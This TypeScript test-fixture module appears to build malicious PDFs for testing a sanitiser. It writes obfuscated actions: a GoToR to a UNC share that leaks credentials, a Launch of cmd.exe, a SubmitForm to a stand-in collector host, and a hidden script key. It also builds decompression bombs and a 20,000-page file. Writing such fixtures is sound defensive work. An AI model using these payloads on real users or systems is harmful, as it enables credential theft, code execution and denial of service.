/**
 * PDFs an attacker writes by hand (issue 36): each spelling that passed the check of issue 27, and
 * the files that cost more than a function has. Written byte by byte, with a correct
 * cross-reference table, since pdf-lib would normalise what they exploit.
 */
import { deflateSync } from 'node:zlib';

/** One object: its number and what stands between `obj` and `endobj` (or a whole header of its own). */
interface RawObject {
  readonly number: number;
  readonly body: string | Buffer;
  /** The header as written, e.g. `9 00obj` (default `N 0 obj`). */
  readonly header?: string;
}

/** A PDF of these objects (latin1 text or bytes), its trailer naming object 1 as the catalog. */
export function rawPdf(objects: readonly RawObject[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets = new Map<number, number>();
  for (const object of objects) {
    offsets.set(object.number, length);
    const body = typeof object.body === 'string' ? Buffer.from(object.body, 'latin1') : object.body;
    const chunk = Buffer.concat([Buffer.from(`${object.header ?? `${object.number} 0 obj`}\n`, 'latin1'), body, Buffer.from('\nendobj\n', 'latin1')]);
    parts.push(chunk);
    length += chunk.length;
  }
  const size = Math.max(...objects.map((o) => o.number)) + 1;
  let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let n = 1; n < size; n++) {
    const offset = offsets.get(n);
    xref += offset === undefined ? '0000000000 65535 f \n' : `${String(offset).padStart(10, '0')} 00000 n \n`;
  }
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A stream object's body: its dictionary entries, its Length, and its data. */
export function streamBody(entries: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${entries} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

const page = (extra = '') => ({
  number: 3,
  body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${extra} >>`,
});
const pages = { number: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' };
const contents = (text = 'Employment Agreement') => ({
  number: 4,
  body: streamBody('', Buffer.from(`BT /F1 14 Tf 72 720 Td (${text}) Tj ET`, 'latin1')),
});
const font = { number: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' };
/** A one-page contract whose catalog carries `catalog` and which has `more` objects (numbered 9 and up). */
export function oneContract(catalog: string, more: readonly RawObject[] = [], pageExtra = ''): Buffer {
  return rawPdf([{ number: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` }, pages, page(pageExtra), contents(), font, ...more]);
}

const share = '(\\\\\\\\host\\\\share\\\\x.pdf)';
/**
 * The spellings of issue 36 that passed the check before it, each a one-page contract: an action
 * whose type is an indirect bare name, a bookmark whose action is such, and an object whose header
 * runs its generation into `obj`.
 */
export const craftedActions: Readonly<Record<string, Buffer>> = {
  'an /OpenAction whose /S is a reference to /GoToR (a share: the viewer sends its credentials)': oneContract('/OpenAction 9 0 R', [
    { number: 9, body: `<< /S 10 0 R /F ${share} >>` },
    { number: 10, body: '/GoToR' },
  ]),
  'an /OpenAction whose /S is a reference to /Launch': oneContract('/OpenAction 9 0 R', [
    { number: 9, body: '<< /S 10 0 R /Win << /F (cmd.exe) >> >>' },
    { number: 10, body: '/Launch' },
  ]),
  'an /OpenAction whose /S is a reference to /SubmitForm': oneContract('/OpenAction 9 0 R', [
    { number: 9, body: '<< /S 10 0 R /F << /FS /URL /F (https://collector.test/x) >> >>' },
    { number: 10, body: '/SubmitForm' },
  ]),
  'an /OpenAction whose /S is a reference to /ImportData': oneContract('/OpenAction 9 0 R', [
    { number: 9, body: `<< /S 10 0 R /F ${share} >>` },
    { number: 10, body: '/ImportData' },
  ]),
  'a bookmark whose /A has an indirect /S /GoToR': oneContract('/Outlines 11 0 R /PageMode /UseOutlines', [
    { number: 11, body: '<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>' },
    { number: 12, body: '<< /Title (Compensation) /Parent 11 0 R /A 13 0 R >>' },
    { number: 13, body: `<< /S 14 0 R /F ${share} >>` },
    { number: 14, body: '/GoToR' },
  ]),
  'a bookmark whose action is a GoToR written in place': oneContract('/Outlines 11 0 R', [
    { number: 11, body: '<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>' },
    { number: 12, body: `<< /Title (Compensation) /Parent 11 0 R /A << /S /GoToR /F ${share} /D [0 /Fit] >> >>` },
  ]),
  'a Launch action in an object whose header is `9 00obj`': oneContract('/OpenAction 9 0 R', [
    { number: 9, header: '9 00obj', body: '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  ]),
  'an /OpenAction whose /S is /Launch spelled with a lower-case escape (/#4caunch)': oneContract('/OpenAction << /S /#4caunch /F (calc.exe) >>'),
  'a script key spelled with a lower-case escape (/#4aS) on a jump to the first page': oneContract(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /#4aS (app.alert\\(1\\)) >>',
  ),
  'a link whose action /Type is a reference to /Action with no type of its own': oneContract(
    '',
    [
      { number: 9, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /Type 10 0 R /F ${share} >> >>` },
      { number: 10, body: '/Action' },
    ],
    '/Annots [9 0 R]',
  ),
};

/**
 * A one-page contract with an object stream that inflates to `inflatedMb` megabytes of spaces
 * (after its one real object): the file is small, its decoding is not.
 */
export function objectStreamBomb(inflatedMb: number): Buffer {
  const first = '6 0 ';
  const objects = `${first}<< /Producer (x) >>`;
  const data = deflateSync(Buffer.concat([Buffer.from(objects, 'latin1'), Buffer.alloc(inflatedMb * 1024 * 1024, 0x20)]), { level: 1 });
  return oneContract('', [{ number: 9, body: streamBody(`/Type /ObjStm /N 1 /First ${first.length} /Filter /FlateDecode`, data) }]);
}

/** A one-page contract whose content stream is Deflate over Deflate: a few hundred bytes that decode to `inflatedMb` megabytes. */
export function nestedDeflateBomb(inflatedMb: number): Buffer {
  const inner = deflateSync(Buffer.alloc(inflatedMb * 1024 * 1024, 0x20), { level: 9 });
  const outer = deflateSync(inner, { level: 9 });
  return rawPdf([
    { number: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
    pages,
    page(),
    { number: 4, body: streamBody('/Filter [/FlateDecode /FlateDecode]', outer) },
    font,
  ]);
}

/** A PDF of `pages` pages in one flat page tree, sharing one content stream and font: 20,000 pages in about 1.5 MB, made at once. */
export function manyPagesPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${10 + i} 0 R`).join(' ');
  return rawPdf([
    { number: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { number: 2, body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>` },
    contents(),
    font,
    ...Array.from({ length: pages }, (_, i) => ({
      number: 10 + i,
      body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    })),
  ]);
}
